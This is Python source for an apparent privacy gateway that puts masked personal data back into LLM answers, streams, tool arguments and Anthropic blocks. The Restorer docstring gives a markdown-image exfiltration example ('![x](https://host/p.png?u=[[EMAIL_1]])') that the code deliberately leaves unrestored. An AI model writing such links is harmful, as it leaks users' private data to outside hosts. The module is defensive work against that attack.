"""Restoring an answer: the originals put back in place of the placeholders the masked request
was sent with — whole answers, streams chunk by chunk, tool-call arguments and structured output
(as JSON, keys included), and Anthropic's own blocks (a server tool's input and results, the
citations of a text: every string but the opaque ones) — except inside URLs (see `Restorer`).
"""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator, Callable
from typing import Any

from tarnkappe.core.types import ChatChunk, ChatRequest, ChatResult, ChoiceDelta, ToolCallDelta
from tarnkappe.gateway.json_values import map_json_strings
from tarnkappe.privacy import StreamRestorer, Vault
from tarnkappe.privacy.placeholders import placeholder_pattern, scan_truncated


class Restorer:
    """Puts originals back into one answer's text, passed in order (a whole text, or a stream's
    pieces one after the other).

    A placeholder inside a URL is left as it is: a model — or an upstream that wants the data — can
    write `![x](https://host/p.png?u=[[EMAIL_1]])`, and the client's markdown renderer or tool
    would send the restored value to that host. "Inside a URL": the word it is in — delimited by
    white space only, since a URL may hold quotes and parentheses (`?u='…'`, `/a(b)…`) — has had a
    URL's mark before it: two slashes or backslashes (`//host`, protocol-relative; `https:\\\\host`,
    which browsers read as `https://`), an encoded slash or backslash, or a web scheme's colon
    (`https:host` is `https://host` to a browser). Between `<` and `>` (an HTML tag, a markdown
    destination in angle brackets, both of which may hold spaces) a mark anywhere before the
    placeholder counts; a blank line ends such a span. The text is read once, so the cost is linear
    in the answer whatever its shape (walking back from each placeholder was quadratic: 2.9 s for
    100 KB of placeholders). With `json_escaped`, originals come back JSON-escaped, so that a name
    with a quote cannot break the tool arguments it is in — and two backslashes are one escaped
    backslash (`C:\\\\Users`), no mark.
    """

    __slots__ = ("_vault", "_json", "_marks", "_boundaries", "_in_url", "_in_angle", "_angle_url", "_carry",
                 "_unread", "_unread_chars")

    def __init__(self, vault: Vault, *, json_escaped: bool = False) -> None:
        self._vault = vault
        self._json = json_escaped
        self._marks = _JSON_URL_MARK if json_escaped else _URL_MARK
        self._boundaries = _JSON_URL_BOUNDARY if json_escaped else None  # None: the module's _URL_BOUNDARY
        self._in_url = False  # the current word has had a URL's mark
        self._in_angle = False  # after a '<' that no '>' (or blank line) closed yet
        self._angle_url = False  # ... and that span has had a URL's mark
        self._carry = ""  # the current word's last characters, for a mark split between reads
        # Pieces passed on without a placeholder in them, not yet read into the state above: it is
        # needed only before a placeholder, so a stream's pieces are read once one comes (or never).
        self._unread: list[str] = []
        self._unread_chars = 0

    def complete_placeholder(self, partial: str) -> str | None:
        """See :meth:`Vault.complete_placeholder` (a stream's end cut inside a placeholder)."""
        return self._vault.complete_placeholder(partial)

    def _read(self, piece: str) -> None:
        """A piece of the current word (no boundary in it): does it, with what came before it in the
        word, hold a URL's mark?"""
        joined = self._carry + piece
        if not self._in_url and self._marks.search(joined):
            self._in_url = True
        if self._in_url and self._in_angle:
            self._angle_url = True
        self._carry = joined[-_MARK_CARRY:]

    def _scan(self, segment: str) -> None:
        """Account for `segment`, the text that follows what was read so far, in the word's and the
        span's state."""
        start = 0
        for boundary in (self._boundaries or _URL_BOUNDARY).finditer(segment):
            if self._in_angle and not self._angle_url:
                self._read(segment[start:boundary.start()])
            self._carry, self._in_url = "", False
            mark = boundary.group()
            if mark == "<":
                self._in_angle, self._angle_url = True, False
            elif mark == ">" or mark.count("\n") > 1:
                self._in_angle = self._angle_url = False
            start = boundary.end()
        self._read(segment[start:])

    def _read_unread(self) -> None:
        """Read the pieces passed on unread, each as the call that passed it would have read it."""
        for piece in self._unread:
            self._scan(piece)
        self._unread.clear()
        self._unread_chars = 0

    def restore(self, text: str) -> str:
        if "[" not in text:
            # No placeholder in it (every one has a '['): passed on as it is. What it changes of the
            # URL state matters only before a placeholder, so it is read then, as it would have been
            # now -- most pieces of a stream never are: a scan per piece was most of the restoring
            # of a stream without placeholders. Held unread: at most _UNREAD_CHARS characters.
            if text:
                self._unread.append(text)
                self._unread_chars += len(text)
                if self._unread_chars > _UNREAD_CHARS:
                    self._read_unread()
            return text
        self._read_unread()
        lookup = self._vault.lookup
        read = 0  # text[:read] is accounted for in the word's and the span's state

        def advance(to: int) -> None:
            nonlocal read
            self._scan(text[read:to])
            read = to

        def sub(m: re.Match[str]) -> str:
            advance(m.start())
            if self._in_url or self._angle_url:
                return m.group(0)
            var = m.group("var")
            original = lookup(m.group("type"), int(m.group("num")), int(var) if var else None)
            if original is None:
                return m.group(0)
            restored = json.dumps(original, ensure_ascii=False)[1:-1] if self._json else original
            # A backslash before a placeholder written without escapes is the text's own (`C:\\Users\\`),
            # not a markdown escape of its brackets (`\\[\\[PERSON_1\\]\\]`): it stays.
            whole = m.group(0)
            return "\\" + restored if whole.startswith("\\") and "\\" not in whole[1:] else restored

        restored = placeholder_pattern().sub(sub, text)
        advance(len(text))
        return restored


# What ends a word for the URL check (white space; a blank line also ends a '<' span), and opens or
# closes a '<' span.
_URL_BOUNDARY = re.compile(r"\n[^\S\n]*\n|[<>]|\s")
# In JSON-escaped text a quote that is not escaped ends a string, so a word too (compact arguments:
# `{"url":"https://…","to":"[[EMAIL_1]]"}`).
_JSON_URL_BOUNDARY = re.compile(r'\n[^\S\n]*\n|[<>]|\s|(?<!\\)"')
# A URL's mark within a word: two slashes or backslashes, an encoded slash or backslash, a web
# scheme's colon. JSON-escaped text writes a backslash as two, so there only four are two.
_URL_MARK = re.compile(r"[/\\]{2}|%2f|%5c|(?<![a-z0-9+.-])(?:https?|wss?|ftp):", re.IGNORECASE)
_JSON_URL_MARK = re.compile(r"//|/\\|\\/|\\{4}|%2f|%5c|(?<![a-z0-9+.-])(?:https?|wss?|ftp):", re.IGNORECASE)
_MARK_CARRY = 5  # a mark is at most six characters: the last five of a read may begin one
_UNREAD_CHARS = 16384  # the most characters a Restorer holds unread (see Restorer.restore)


def _complete_end(text: str, vault: Vault) -> str:
    """An answer that max_tokens cut inside a placeholder ("Frau [[PERSON_") ends in the one
    placeholder it can be the start of, or without that start if it fits none or several (as a
    stream's end, see privacy/stream.py)."""
    cut = scan_truncated(text)
    if cut is None:
        return text
    return text[:cut] + (vault.complete_placeholder(text[cut:]) or "")


# Strings of Anthropic's blocks that are not text: ciphertext and signatures Anthropic checks, and ids.
OPAQUE_KEYS = frozenset({"encrypted_content", "encrypted_index", "encrypted_stdout", "signature", "data", "id",
                         "tool_use_id", "type", "file_id"})


def restore_native(value: Any, restore: Callable[[str], str]) -> Any:
    """An Anthropic block (a server tool's use or result, a citation) with every string restored
    but the opaque ones (`OPAQUE_KEYS`), which Anthropic checks when they come back."""
    if isinstance(value, str):
        return restore(value)
    if isinstance(value, list):
        return [restore_native(item, restore) for item in value]
    if isinstance(value, dict):
        return {k: v if k in OPAQUE_KEYS else restore_native(v, restore) for k, v in value.items()}
    return value


def wants_json(request: ChatRequest) -> bool:
    """Whether the answer's content is JSON (structured output), to be restored as JSON."""
    return request.response_format is not None and request.response_format.type != "text"


def restore_result(result: ChatResult, vault: Vault, *, json_content: bool = False) -> None:
    """Put the originals back into a whole answer (in place): content, refusals, tool calls —
    in JSON content and tool arguments keys included."""
    def restore(text: str) -> str:
        return Restorer(vault).restore(text)

    def restore_text(text: str) -> str:
        return map_json_strings(text, restore) if json_content else restore(_complete_end(text, vault))

    for choice in result.choices:
        message = choice.message
        if isinstance(message.content, str):
            message.content = restore_text(message.content)
        elif message.content:
            for part in message.content:
                if part.text:
                    part.text = restore_text(part.text)
                if part.citations:
                    part.citations = restore_native(part.citations, restore)
                if part.native is not None:
                    part.native = restore_native(part.native, restore)
        if message.refusal:
            message.refusal = restore(message.refusal)
        for call in message.tool_calls or ():
            call.arguments = map_json_strings(call.arguments, restore)


class StreamRestoring:
    """Restores one stream's placeholders chunk by chunk, in place.

    Each choice's content, and each tool call's arguments, get their own restorer: a placeholder
    split across two chunks is held back only until it is complete, everything else passes at
    once. What is still held back when a choice finishes is emitted on that choice's final chunk,
    before its finish_reason, so nothing is lost and nothing is reordered. Tool arguments (and
    JSON content) get JSON-escaped originals; placeholders inside URLs stay (see `Restorer`).
    Synchronous, and the same whether the chunks come one at a time (`restore_stream`) or a
    network read's at a time (`restore_batches`): what a client gets does not depend on how the
    upstream's bytes were cut.
    """

    __slots__ = ("vault", "json_content", "content", "refusals", "arguments", "native", "last")

    def __init__(self, vault: Vault, *, json_content: bool = False) -> None:
        self.vault = vault
        self.json_content = json_content
        self.content: dict[int, StreamRestorer] = {}
        self.refusals: dict[int, Restorer] = {}
        self.arguments: dict[tuple[int, int], StreamRestorer] = {}
        self.native = _NativeRestorer(vault)
        self.last: ChatChunk | None = None

    def restore(self, chunk: ChatChunk, out: list[ChatChunk]) -> None:
        """Restore `chunk` in place and add it to `out`, after the end of a server tool's input
        if that was held back and is due now."""
        held = self.native.feed(chunk)
        if held is not None:
            out.append(held)
        for delta in chunk.choices:
            if delta.content:
                restorer = self.content.get(delta.index)
                if restorer is None:
                    restorer = self.content[delta.index] = StreamRestorer(
                        Restorer(self.vault, json_escaped=self.json_content))  # type: ignore[arg-type]
                delta.content = restorer.feed(delta.content)
            if delta.refusal:
                delta.refusal = self.refusals.setdefault(delta.index, Restorer(self.vault)).restore(delta.refusal)
            for call in delta.tool_calls or ():
                if call.arguments:
                    key = (delta.index, call.index)
                    restorer = self.arguments.get(key)
                    if restorer is None:
                        restorer = self.arguments[key] = StreamRestorer(
                            Restorer(self.vault, json_escaped=True))  # type: ignore[arg-type]
                    call.arguments = restorer.feed(call.arguments)
            if delta.finish_reason is not None:
                _flush_choice(delta, self.content, self.arguments)
        self.last = chunk
        out.append(chunk)

    def end(self) -> ChatChunk | None:
        """The stream ended: a last chunk with whatever an upstream left held back without ever
        finishing its choice (a cut-off stream), if anything."""
        leftovers = _flush_all(self.content, self.arguments)
        last = self.last
        if not leftovers or last is None:
            return None
        return ChatChunk(id=last.id, created=last.created, model=last.model, choices=leftovers)


async def restore_stream(
    stream: AsyncIterator[ChatChunk], vault: Vault, *, json_content: bool = False
) -> AsyncIterator[ChatChunk]:
    """A stream's chunks, one at a time, with the originals put back (`StreamRestoring`)."""
    restoring = StreamRestoring(vault, json_content=json_content)
    restored: list[ChatChunk] = []
    async for chunk in stream:
        restoring.restore(chunk, restored)
        for piece in restored:
            yield piece
        restored.clear()
    tail = restoring.end()
    if tail is not None:
        yield tail


async def restore_batches(
    batches: AsyncIterator[list[ChatChunk]], vault: Vault, *, json_content: bool = False
) -> AsyncIterator[list[ChatChunk]]:
    """A stream's chunks, a network read's at a time (providers/base.py), with the originals put
    back (`StreamRestoring`): the same chunks as `restore_stream`, in lists of the same reads.
    Closing this closes `batches` (the upstream call) at once."""
    restoring = StreamRestoring(vault, json_content=json_content)
    try:
        async for batch in batches:
            restored: list[ChatChunk] = []
            for chunk in batch:
                restoring.restore(chunk, restored)
            yield restored
        tail = restoring.end()
        if tail is not None:
            yield [tail]
    finally:
        aclose = getattr(batches, "aclose", None)
        if aclose is not None:
            await aclose()


class _NativeRestorer:
    """Anthropic's own pieces of a stream (`ChoiceDelta.native`, choice 0: the Messages API has one):
    blocks and citations come whole and are restored at once; a server tool's input comes in JSON
    pieces, restored as tool arguments are — and what is held back of it is let out, as a piece of
    its own, before whatever follows the block."""

    def __init__(self, vault: Vault) -> None:
        self._vault = vault
        self._input: StreamRestorer | None = None

    def _restore(self, text: str) -> str:
        return Restorer(self._vault).restore(text)

    def feed(self, chunk: ChatChunk) -> ChatChunk | None:
        """Restore the chunk's native pieces in place; a chunk to send before it, if any."""
        held = None
        for delta in chunk.choices:
            piece = delta.native
            if piece is not None and "input" in piece:
                if self._input is None:
                    self._input = StreamRestorer(Restorer(self._vault, json_escaped=True))  # type: ignore[arg-type]
                delta.native = {"input": self._input.feed(piece["input"])}
                continue
            if self._input is not None and (piece is not None or delta.content or delta.tool_calls
                                            or delta.finish_reason is not None):
                tail, self._input = self._input.flush(), None
                if tail:
                    held = ChatChunk(id=chunk.id, created=chunk.created, model=chunk.model,
                                     choices=[ChoiceDelta(index=delta.index, native={"input": tail})])
            if piece is not None and ("start" in piece or "citation" in piece):
                delta.native = restore_native(piece, self._restore)
        return held


def _flush_choice(
    delta: ChoiceDelta, content: dict[int, StreamRestorer], arguments: dict[tuple[int, int], StreamRestorer]
) -> None:
    restorer = content.pop(delta.index, None)
    if restorer is not None:
        tail = restorer.flush()
        if tail:
            delta.content = (delta.content or "") + tail
    for key in [k for k in arguments if k[0] == delta.index]:
        tail = arguments.pop(key).flush()
        if tail:
            calls = delta.tool_calls if delta.tool_calls is not None else []
            calls.append(ToolCallDelta(index=key[1], arguments=tail))
            delta.tool_calls = calls


def _flush_all(
    content: dict[int, StreamRestorer], arguments: dict[tuple[int, int], StreamRestorer]
) -> list[ChoiceDelta]:
    """Whatever an upstream left held back without ever finishing its choice (a cut-off stream)."""
    deltas: dict[int, ChoiceDelta] = {}
    for index, restorer in content.items():
        tail = restorer.flush()
        if tail:
            deltas.setdefault(index, ChoiceDelta(index=index)).content = tail
    for (index, call_index), restorer in arguments.items():
        tail = restorer.flush()
        if tail:
            delta = deltas.setdefault(index, ChoiceDelta(index=index))
            delta.tool_calls = (delta.tool_calls or []) + [ToolCallDelta(index=call_index, arguments=tail)]
    return list(deltas.values())
